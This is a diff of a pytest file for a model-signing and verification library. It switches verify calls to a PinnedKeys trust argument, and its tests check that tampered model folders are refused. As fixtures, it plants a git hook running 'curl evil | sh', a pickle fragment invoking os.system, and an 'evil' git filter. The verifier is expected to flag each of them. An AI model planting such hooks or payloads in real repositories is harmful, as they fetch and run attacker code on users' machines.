@@ -21,6 +21,7 @@ from typing import Any
 import pytest
 
 from mltrust.attest import (
+    PinnedKeys,
     generate_keypair,
     load_private_key,
     load_public_key,
@@ -81,10 +82,10 @@ def test_signature_symlinked_to_dev_zero_is_refused_at_once(
     (model / "model.sig").symlink_to("/dev/zero")
     proc = run_isolated(
         f"""
-        from mltrust.attest import verify
+        from mltrust.attest import PinnedKeys, verify
         from mltrust.errors import InputError
         try:
-            verify({str(model)!r}, key={str(keys["pub"])!r})
+            verify({str(model)!r}, trust=PinnedKeys({str(keys["pub"])!r}))
         except InputError as exc:
             print("refused:", exc)
         """
@@ -98,10 +99,10 @@ def test_fifo_signature_does_not_hang(tmp_path: Path, keys: dict[str, Path]) -> 
     os.mkfifo(model / "model.sig")
     proc = run_isolated(
         f"""
-        from mltrust.attest import verify
+        from mltrust.attest import PinnedKeys, verify
         from mltrust.errors import InputError
         try:
-            verify({str(model)!r}, key={str(keys["pub"])!r})
+            verify({str(model)!r}, trust=PinnedKeys({str(keys["pub"])!r}))
         except InputError as exc:
             print("refused:", exc)
         """,
@@ -118,7 +119,7 @@ def test_explicit_signature_path_to_a_device_is_refused(
     link = tmp_path / "outside.sig"
     link.symlink_to("/dev/zero")  # a link the user named is followed, a device never read
     with pytest.raises(InputError, match="character device"):
-        verify(model, key=keys["pub"], signature=link)
+        verify(model, trust=PinnedKeys(keys["pub"]), signature=link)
 
 
 def _envelope_with_signatures(count: int) -> bytes:
@@ -142,7 +143,7 @@ def test_70_mib_envelope_with_millions_of_signatures_refused_in_bounded_memory(
     tracemalloc.start()
     try:
         with pytest.raises(LimitExceeded, match="larger than"):
-            verify(model, key=keys["pub"])
+            verify(model, trust=PinnedKeys(keys["pub"]))
         _current, peak = tracemalloc.get_traced_memory()
     finally:
         tracemalloc.stop()
@@ -174,7 +175,7 @@ def test_bundle_bounds_come_from_limits(tmp_path: Path, keys: dict[str, Path]) -
     sig = sign(model, key=keys["key"])
     small = Limits().replace(max_bundle_bytes=100)
     with pytest.raises(LimitExceeded):
-        verify(model, key=keys["pub"], limits=small)
+        verify(model, trust=PinnedKeys(keys["pub"]), limits=small)
     with pytest.raises(LimitExceeded):
         read_bundle(sig, limits=small)
     with pytest.raises(ConfigError):
@@ -208,7 +209,7 @@ def test_state_file_fifo_refused(tmp_path: Path, keys: dict[str, Path]) -> None:
     state = tmp_path / "state.json"
     os.mkfifo(state)
     with pytest.raises(ConfigError, match="FIFO"):
-        verify(model, key=keys["pub"], state=state, name="model")
+        verify(model, trust=PinnedKeys(keys["pub"]), state=state, name="model")
 
 
 def test_attestation_symlinked_to_dev_zero_fails(tmp_path: Path, keys: dict[str, Path]) -> None:
@@ -220,7 +221,7 @@ def test_attestation_symlinked_to_dev_zero_fails(tmp_path: Path, keys: dict[str,
     # A link at an attestation's exact name is not one of mltrust's files (those are regular
     # files only): the folder comparison refuses it before any attestation is read.
     with pytest.raises(VerificationError) as err:
-        verify(model, key=keys["pub"], attestations=True)
+        verify(model, trust=PinnedKeys(keys["pub"]), attestations=True)
     assert "symbolic link" in err.value.differences[0]
 
 
@@ -233,15 +234,15 @@ def test_another_model_signed_by_the_same_key_is_not_this_one(
     model = make_model(tmp_path)
     sign(model, key=keys["key"], model_name="model", version=3)
     state = tmp_path / "state.json"
-    verify(model, key=keys["pub"], name="model", state=state)
+    verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)
     # the attacker puts another model, validly signed by the same key, in its place
     (model / "weights.bin").write_bytes(b"the other model's weights")
     sign(model, key=keys["key"], model_name="other-model", version=7)
-    verify(model, key=keys["pub"])  # a valid signature, of something
+    verify(model, trust=PinnedKeys(keys["pub"]))  # a valid signature, of something
     with pytest.raises(VerificationError, match="not the expected 'model'"):
-        verify(model, key=keys["pub"], name="model")
+        verify(model, trust=PinnedKeys(keys["pub"]), name="model")
     with pytest.raises(VerificationError, match="not the expected 'model'"):
-        verify(model, key=keys["pub"], name="model", state=state)
+        verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)
     doc = json.loads(state.read_text())
     assert set(doc["models"]) == {"model"} and doc["models"]["model"]["version"] == 3
 
@@ -249,24 +250,24 @@ def test_another_model_signed_by_the_same_key_is_not_this_one(
 def test_expected_version_and_minimum_version(tmp_path: Path, keys: dict[str, Path]) -> None:
     model = make_model(tmp_path)
     sign(model, key=keys["key"], version=4)
-    assert verify(model, key=keys["pub"], name="model", version=4).version == 4
-    assert verify(model, key=keys["pub"], min_version=4).version == 4
+    assert verify(model, trust=PinnedKeys(keys["pub"]), name="model", version=4).version == 4
+    assert verify(model, trust=PinnedKeys(keys["pub"]), min_version=4).version == 4
     with pytest.raises(VerificationError, match="not the expected 5"):
-        verify(model, key=keys["pub"], version=5)
+        verify(model, trust=PinnedKeys(keys["pub"]), version=5)
     with pytest.raises(VerificationError, match="older than the minimum 5"):
-        verify(model, key=keys["pub"], min_version=5)
+        verify(model, trust=PinnedKeys(keys["pub"]), min_version=5)
     with pytest.raises(ConfigError):
-        verify(model, key=keys["pub"], version=4, min_version=4)
+        verify(model, trust=PinnedKeys(keys["pub"]), version=4, min_version=4)
     sign(model, key=keys["key"])  # no version at all
     with pytest.raises(VerificationError, match="minimum"):
-        verify(model, key=keys["pub"], min_version=0)
+        verify(model, trust=PinnedKeys(keys["pub"]), min_version=0)
 
 
 def test_state_requires_the_expected_name(tmp_path: Path, keys: dict[str, Path]) -> None:
     model = make_model(tmp_path)
     sign(model, key=keys["key"], version=1)
     with pytest.raises(ConfigError, match="expected model name"):
-        verify(model, key=keys["pub"], state=tmp_path / "s.json")
+        verify(model, trust=PinnedKeys(keys["pub"]), state=tmp_path / "s.json")
 
 
 def test_cli_verify_name_and_version(
@@ -329,7 +330,7 @@ def test_same_size_edit_during_verify_fails(
             fh.write(b"\xff" * 1024)
 
     with pytest.raises(FileChangedError, match="changed while hashing"):
-        verify(model, key=keys["pub"], progress=_OnFirstBlock(edit))
+        verify(model, trust=PinnedKeys(keys["pub"]), progress=_OnFirstBlock(edit))
 
 
 def test_same_size_edit_with_restored_mtime_during_verify_fails(
@@ -346,7 +347,7 @@ def test_same_size_edit_with_restored_mtime_during_verify_fails(
         os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))  # ctime still moves
 
     with pytest.raises(FileChangedError):
-        verify(model, key=keys["pub"], progress=_OnFirstBlock(edit))
+        verify(model, trust=PinnedKeys(keys["pub"]), progress=_OnFirstBlock(edit))
 
 
 def test_atomic_rename_over_the_file_during_verify_fails(
@@ -362,7 +363,7 @@ def test_atomic_rename_over_the_file_during_verify_fails(
         os.replace(tmp, target)
 
     with pytest.raises(FileChangedError, match="while hashing"):
-        verify(model, key=keys["pub"], progress=_OnFirstBlock(swap))
+        verify(model, trust=PinnedKeys(keys["pub"]), progress=_OnFirstBlock(swap))
 
 
 def test_file_growing_during_sign_fails(
@@ -394,7 +395,7 @@ def test_file_swapped_between_listing_and_hashing_fails(
         os.replace(tmp, victim)
 
     with pytest.raises(FileChangedError, match="after it was listed"):
-        verify(model, key=keys["pub"], progress=_OnFirstBlock(swap))
+        verify(model, trust=PinnedKeys(keys["pub"]), progress=_OnFirstBlock(swap))
 
 
 # -- 5. nothing ignored that the signer did not declare ---------------------------------------
@@ -413,7 +414,7 @@ def test_file_hidden_under_dot_mltrust_is_an_extra_file(
     p.parent.mkdir(parents=True, exist_ok=True)
     p.write_bytes(b"\x80\x04cos\nsystem\n.")
     with pytest.raises(VerificationError) as err:
-        verify(model, key=keys["pub"])
+        verify(model, trust=PinnedKeys(keys["pub"]))
     assert err.value.differences == [f"added: {extra}"]
 
 
@@ -426,7 +427,7 @@ def test_files_mltrust_writes_are_not_extra(tmp_path: Path, keys: dict[str, Path
     attest_scan(model, key=keys["key"], store=None)
     with EvidenceStore.open(EvidenceStore.default_path(model)):
         pass
-    result = verify(model, key=keys["pub"], attestations=True)
+    result = verify(model, trust=PinnedKeys(keys["pub"]), attestations=True)
     assert len(result.attestations) == 1
 
 
@@ -441,12 +442,12 @@ def test_git_files_are_ignored_only_when_the_signature_says_so(
     # a signer that did not leave .git out: the verifier adds no ignore of its own
     statement["predicate"]["serialization"]["ignore_paths"] = ["model.sig"]
     sig.write_text(json.dumps(sign_statement(statement, load_private_key(keys["key"]))))
-    verify(model, key=keys["pub"])
+    verify(model, trust=PinnedKeys(keys["pub"]))
     (model / ".git" / "hooks").mkdir(parents=True)
     (model / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
     (model / ".gitattributes").write_text("* filter=evil\n")
     with pytest.raises(VerificationError) as err:
-        verify(model, key=keys["pub"])
+        verify(model, trust=PinnedKeys(keys["pub"]))
     assert sorted(err.value.differences) == [
         "added: .git/hooks/post-checkout",
         "added: .gitattributes",
@@ -459,11 +460,11 @@ def test_state_file_inside_the_model_is_not_an_extra_file(
     model = make_model(tmp_path)
     sign(model, key=keys["key"], version=1)
     state = model / "verifier-state.json"
-    verify(model, key=keys["pub"], name="model", state=state)
-    verify(model, key=keys["pub"], name="model", state=state)
+    verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)
+    verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)
     assert state.exists()
     with pytest.raises(VerificationError) as err:
-        verify(model, key=keys["pub"])  # for any other verifier it is an extra file
+        verify(model, trust=PinnedKeys(keys["pub"]))  # for any other verifier it is an extra file
     assert "added: verifier-state.json" in err.value.differences
 
 
@@ -517,7 +518,7 @@ def test_state_that_does_not_fit_its_schema_is_refused(
     state = tmp_path / "state.json"
     state.write_text(json.dumps(doc))
     with pytest.raises(ConfigError, match="schema"):
-        verify(model, key=keys["pub"], name="model", state=state)
+        verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)
     assert json.loads(state.read_text()) == doc  # not silently rewritten
 
 
@@ -531,17 +532,17 @@ def test_string_version_in_state_does_not_reset_rollback_protection(
         json.dumps({"models": {"model": {"version": "9", "rootDigest": "0" * 64, "issuedAt": ""}}})
     )
     with pytest.raises(ConfigError):
-        verify(model, key=keys["pub"], name="model", state=state)
+        verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)
 
 
 def test_state_written_by_verify_reads_back(tmp_path: Path, keys: dict[str, Path]) -> None:
     model = make_model(tmp_path)
     sign(model, key=keys["key"], version=1)
     state = tmp_path / "state.json"
-    verify(model, key=keys["pub"], name="model", state=state)
+    verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)
     doc = json.loads(state.read_text())
     assert doc["format"] == 1 and doc["models"]["model"]["version"] == 1
-    verify(model, key=keys["pub"], name="model", state=state)
+    verify(model, trust=PinnedKeys(keys["pub"]), name="model", state=state)
 
 
 def test_sha256_file_refuses_devices_and_fifos(tmp_path: Path) -> None:
@@ -573,7 +574,7 @@ def test_renames_of_identical_files_are_paired_in_linear_time(
         (model / f"f{i:04d}.bin").rename(model / f"g{i:04d}.bin")
     (model / "extra.bin").write_bytes(b"new")
     with pytest.raises(VerificationError) as err:
-        verify(model, key=keys["pub"])
+        verify(model, trust=PinnedKeys(keys["pub"]))
     diffs = err.value.differences
     assert len(diffs) == 3001
     assert diffs[:2] == ["renamed: f0000.bin -> g0000.bin", "renamed: f0001.bin -> g0001.bin"]
@@ -591,7 +592,7 @@ def test_digest_with_a_trailing_newline_in_a_signed_manifest_is_malformed(
     res["digest"] = res["digest"][:63] + "\n"
     sig.write_text(json.dumps(sign_statement(statement, load_private_key(keys["key"]))))
     with pytest.raises(VerificationError, match="malformed digest"):
-        verify(model, key=keys["pub"])
+        verify(model, trust=PinnedKeys(keys["pub"]))
 
 
 def test_include_git_covers_git_files(tmp_path: Path, keys: dict[str, Path]) -> None:
@@ -602,10 +603,10 @@ def test_include_git_covers_git_files(tmp_path: Path, keys: dict[str, Path]) -> 
     (model / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
     sign(model, key=keys["key"], include_git=True)
     attest_scan(model, key=keys["key"], include_git=True)  # mltrust files stay out
-    verify(model, key=keys["pub"], attestations=True)
+    verify(model, trust=PinnedKeys(keys["pub"]), attestations=True)
     (model / ".git" / "hooks").mkdir()
     (model / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\n")
     (model / ".git" / "HEAD").write_text("ref: refs/heads/evil\n")
     with pytest.raises(VerificationError) as err:
-        verify(model, key=keys["pub"])
+        verify(model, trust=PinnedKeys(keys["pub"]))
     assert err.value.differences == ["added: .git/hooks/post-checkout", "modified: .git/HEAD"]
